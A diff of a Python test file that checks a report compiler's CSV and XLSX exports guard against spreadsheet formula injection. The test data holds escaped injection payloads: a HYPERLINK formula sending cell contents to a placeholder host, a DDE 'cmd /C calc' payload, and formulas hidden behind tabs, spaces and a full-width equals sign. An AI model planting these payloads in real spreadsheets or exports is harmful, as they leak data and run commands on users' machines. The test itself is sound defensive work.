@@ -17,7 +17,8 @@ from openpyxl import load_workbook
 from compiler import pipeline
 from compiler.cli import cli
 from compiler.privacy.suppress import HIDDEN, SMALL
-from compiler.packs.commissioner.returns import return_csv, return_xlsx
+from compiler.packs.commissioner.returns import return_csv
+from compiler.render.spreadsheet import Sheet, xlsx_workbook
 from compiler.views.commissioner import RETURN_COLUMNS, ReturnRow, metric_unit, published_values
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -86,16 +87,14 @@ def test_return_files_columns_and_suppression(packs):
     assert not any(r["value"] in {"<5", "*"} for r in body)                       # no indicator counts people
     assert late[-1]["narrative"] and late[-1]["evidence refs"] == "indicators-riverside-late-calls"
 
-    wb = load_workbook(packs[0] / "return.xlsx")
-    ws = wb["Return"]
-    values = [[c.value for c in row] for row in ws.iter_rows()]
-    assert tuple(values[0]) == RETURN_COLUMNS
-    assert len(values) == len(rows)
-    for row in ws.iter_rows():
-        for c in row:
-            assert c.data_type != "f"
-            if isinstance(c.value, str):
-                assert c.data_type == "s"
+    wb = load_workbook(packs[0] / "return.xlsx")       # the return itself: tests/packs/test_commissioner_return.py
+    assert wb.sheetnames == ["Cover", "Actions", "Indicators"]
+    for ws in wb:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f"
+                if isinstance(c.value, str):
+                    assert c.data_type == "s"
     assert wb.properties.creator == "sgpack" and wb.properties.created == dt.datetime(2026, 11, 20)
 
 
@@ -108,15 +107,19 @@ def test_csv_formula_guard_and_xlsx_text_stays_text():
     assert cells[:9] == ["'=HYPERLINK(\"http://x/?d=\"&A1,\"click\")", "'+1+1", "'-2+3",
                          "'@SUM(1+1)*cmd|' /C calc'!A0", "'\t=1", "'\r=1", "' =1+1", "'＝1+1", "-5"]
     assert cells[9:11] == ["12.5", "plain"]
-    wb = load_workbook(io.BytesIO(return_xlsx([row], title="t", as_of_iso="2026-11-20")))
+    def workbook() -> bytes:
+        return xlsx_workbook([Sheet("Return", [list(RETURN_COLUMNS), [*evil, -5]], [10] * 13, table=0)],
+                             title="t", as_of_iso="2026-11-20")
+
+    wb = load_workbook(io.BytesIO(workbook()))
     ws = wb.active
     assert ws["A2"].value == evil[0] and ws["A2"].data_type == "s"
-    assert ws["I2"].value == -5 and ws["I2"].data_type == "n"
-    with zipfile.ZipFile(io.BytesIO(return_xlsx([row], title="t", as_of_iso="2026-11-20"))) as z:
+    assert ws["I2"].value == "-5" and ws["I2"].data_type == "s"             # text that looks like a number
+    assert ws["L2"].value == -5 and ws["L2"].data_type == "n"               # a number
+    with zipfile.ZipFile(io.BytesIO(workbook())) as z:
         sheet = z.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet
-    assert return_xlsx([row], title="t", as_of_iso="2026-11-20") == return_xlsx([row], title="t",
-                                                                                as_of_iso="2026-11-20")
+    assert workbook() == workbook()
 
 
 def read_csv_bytes(data: bytes) -> list[list[str]]:
